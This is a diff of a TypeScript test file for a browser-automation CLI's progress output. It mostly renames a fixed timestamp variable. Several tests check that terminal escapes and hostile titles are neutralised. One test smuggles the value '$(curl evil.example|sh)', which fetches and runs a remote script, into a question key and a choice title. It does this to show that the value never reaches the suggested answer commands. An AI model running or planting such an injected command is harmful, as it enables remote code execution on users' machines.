@@ -2,7 +2,7 @@ import { createEvent, type EventDraft, type RunEvent } from '@pilothouse/contrac
 import { activityLine, Progress } from './progress-lines.ts';
 import { styleFor } from './text-style.ts';
 
-const at = new Date('2026-05-04T12:00:00.000Z');
+const now = new Date('2026-05-04T12:00:00.000Z');
 let seq = 0;
 const numbered = (draft: EventDraft): RunEvent => ({
   ...draft,
@@ -12,20 +12,20 @@ const numbered = (draft: EventDraft): RunEvent => ({
 });
 const error = { code: 'TARGET_NOT_FOUND', message: 'nothing', retry: 'no' } as const;
 const stepStarted = (step: number, title: string) =>
-  numbered(createEvent('step.started', title, { step, id: null, action: 'click', title, summary: title }, at));
+  numbered(createEvent('step.started', title, { step, id: null, action: 'click', title, summary: title }, now));
 const stepCompleted = (step: number, value?: string | object[]) =>
   numbered(
     createEvent(
       'step.completed',
       'done',
       { step, id: null, tier: 'replay' as const, durationMs: 840, located: null, value: value as never, page: null },
-      at,
+      now,
     ),
   );
 
 const queued = (steps?: number) => {
   const data = { fleet: 'browser', priority: 0, retryOf: null, ...(steps !== undefined && { steps }) };
-  return numbered(createEvent('run.queued', 'Queued', data, at));
+  return numbered(createEvent('run.queued', 'Queued', data, now));
 };
 const progress = () => {
   const run = new Progress(styleFor(false));
@@ -37,10 +37,10 @@ test('a completed step is one line: symbol, number, title, duration, short outpu
   const run = progress();
   expect(run.update(stepStarted(2, 'Read the catalogue'))).toEqual({
     lines: [],
-    activity: { text: ' 3/24  Read the catalogue', since: at.toISOString() },
+    activity: { text: ' 3/24  Read the catalogue', since: now.toISOString() },
   });
   const branch = { step: 2, id: null, branch: 'left', sequence: 1, action: 'click', title: 'Open' } as const;
-  expect(run.update(numbered(createEvent('branch.step_started', 'left: Open', branch, at)))).toMatchObject({
+  expect(run.update(numbered(createEvent('branch.step_started', 'left: Open', branch, now)))).toMatchObject({
     activity: { text: '  left  Open' },
   });
   const { lines, activity } = run.update(stepCompleted(2, [{ sku: 'A' }, { sku: 'B' }]));
@@ -53,16 +53,16 @@ test('a retried attempt is a line, and the activity shows the next attempt', () 
   const run = progress();
   const ref = { step: 3, path: 'log_in', id: 'log_in' };
   const startData = { ...ref, action: 'click', title: 'Log in', summary: '' } as const;
-  run.update(numbered(createEvent('step.started', 'Log in', startData, at)));
-  const more = {
+  run.update(numbered(createEvent('step.started', 'Log in', startData, now)));
+  const retry = {
     attempt: 1,
     maxAttempts: 3,
     errorCode: error.code,
     error,
     durationMs: 30_000,
-    nextAttemptAt: at.toISOString(),
+    nextAttemptAt: now.toISOString(),
   };
-  const { lines, activity } = run.update(numbered(createEvent('step.retrying', 'no', { ...ref, ...more }, at)));
+  const { lines, activity } = run.update(numbered(createEvent('step.retrying', 'no', { ...ref, ...retry }, now)));
   expect(lines).toHaveLength(1);
   expect(lines[0]).toMatch(/^↻ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND, attempt 1 of 3$/);
   expect(activity?.text).toBe(' 4/24  waiting for attempt 2');
@@ -72,11 +72,11 @@ test('a failed step has a cross and its code; a failed run names its step', () =
   const run = progress();
   run.update(stepStarted(3, 'Log in'));
   const [line] = run.update(
-    numbered(createEvent('step.failed', 'no', { step: 3, id: null, error, durationMs: 30_000 }, at)),
+    numbered(createEvent('step.failed', 'no', { step: 3, id: null, error, durationMs: 30_000 }, now)),
   ).lines;
   expect(line).toMatch(/^✗ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND$/);
   expect(run.failure).toBeNull();
-  run.update(numbered(createEvent('run.failed', 'no', { error, step: 3 }, at)));
+  run.update(numbered(createEvent('run.failed', 'no', { error, step: 3 }, now)));
   expect(run.failure).toEqual({ step: 3, path: '4', title: 'Log in' });
 });
 
@@ -84,11 +84,11 @@ test('with control flow, a line has the path of its step, and titles are aligned
   const run = new Progress(styleFor(false));
   run.update(queued());
   const title = 'Read';
-  const at = (step: number, path?: string) => ({ step, ...(path !== undefined && { path }), id: null });
+  const stepRef = (step: number, path?: string) => ({ step, ...(path !== undefined && { path }), id: null });
   const startEvent = (ref: { step: number; id: null }) =>
     numbered(createEvent('step.started', title, { ...ref, action: 'click', title, summary: title }, new Date(0)));
   const outcome = { tier: 'replay' as const, durationMs: 840, located: null, page: null };
-  const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((ref) => {
+  const numbers = [stepRef(0), stepRef(1, '2[1]/1'), stepRef(2, '2[2]/1'), stepRef(3, '3')].map((ref) => {
     run.update(startEvent(ref));
     const [line = ''] = run.update(
       numbered(createEvent('step.completed', 'done', { ...ref, ...outcome }, new Date(0))),
@@ -108,10 +108,10 @@ test('a secret in a title is an ellipsis', () => {
 });
 
 test('a lost worker is shown, and the wait for another one', () => {
-  const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, at));
+  const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, now));
   expect(progress().update(lost)).toEqual({
     lines: ['↻ requeued for another worker: The worker went away'],
-    activity: { text: 'waiting for another worker', since: at.toISOString() },
+    activity: { text: 'waiting for another worker', since: now.toISOString() },
   });
 });
 
@@ -119,7 +119,7 @@ test('untrusted titles and messages cannot control the terminal', () => {
   const run = progress();
   run.update(stepStarted(0, 'Open \u001b]0;mine\u0007the page\r'));
   expect(run.update(stepCompleted(0)).lines[0]).toContain('Open the page');
-  const warning = numbered(createEvent('run.log', 'x\u001b[2Jy', { facts: {} }, at, 'warn'));
+  const warning = numbered(createEvent('run.log', 'x\u001b[2Jy', { facts: {} }, now, 'warn'));
   expect(run.update(warning).lines).toEqual(['! xy']);
 });
 
@@ -130,14 +130,14 @@ test('event data that does not match the schema is ignored', () => {
 });
 
 test('debug and info logs are for `logs`', () => {
-  expect(progress().update(numbered(createEvent('run.log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
+  expect(progress().update(numbered(createEvent('run.log', 'quiet', { facts: {} }, now))).lines).toEqual([]);
 });
 
 test('the activity line shows its duration from two seconds on', () => {
-  const work = { text: 'Log in', since: at.toISOString() };
-  expect(activityLine(work, new Date(at.getTime() + 900))).toBe('Log in');
-  expect(activityLine(work, new Date(at.getTime() + 3_400))).toBe('Log in  3 s');
-  expect(activityLine(work, new Date(at.getTime() + 65_000))).toBe('Log in  1 min 05 s');
+  const work = { text: 'Log in', since: now.toISOString() };
+  expect(activityLine(work, new Date(now.getTime() + 900))).toBe('Log in');
+  expect(activityLine(work, new Date(now.getTime() + 3_400))).toBe('Log in  3 s');
+  expect(activityLine(work, new Date(now.getTime() + 65_000))).toBe('Log in  1 min 05 s');
 });
 
 test('a question is shown with the commands that answer it', () => {
@@ -151,9 +151,9 @@ test('a question is shown with the commands that answer it', () => {
       { choice: 'continue' as const, title: 'It happened' },
       { choice: 'retry' as const, title: 'It did not' },
     ],
-    expiresAt: at.toISOString(),
+    expiresAt: now.toISOString(),
   };
-  const update = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
+  const update = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, now)));
   expect(update.lines).toEqual([
     '? Step 5 may have run before',
     '  npx pilothouse runs answer 0197f3c2-1a2b continue --question 2.4.0',
@@ -168,7 +168,7 @@ test('a question is shown with the commands that answer it', () => {
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
   const hostile = { ...question, key: `0.0@${evil}`, choices };
-  const hostileLines = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, at))).lines;
+  const hostileLines = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, now))).lines;
   const commands = hostileLines.filter((line) => line.includes('npx'));
   expect(commands).toEqual([
     '  npx pilothouse runs answer 0197f3c2-1a2b continue',
@@ -176,7 +176,7 @@ test('a question is shown with the commands that answer it', () => {
   ]);
   expect(hostileLines).toContain(`    ${evil}`);
   const resumed = { answeredBy: 'Ada', choice: 'retry' as const, step: 4 };
-  expect(run.update(numbered(createEvent('run.answered', 'Ada answered: retry', resumed, at))).lines).toEqual([
+  expect(run.update(numbered(createEvent('run.answered', 'Ada answered: retry', resumed, now))).lines).toEqual([
     '· Ada answered: retry',
   ]);
 });
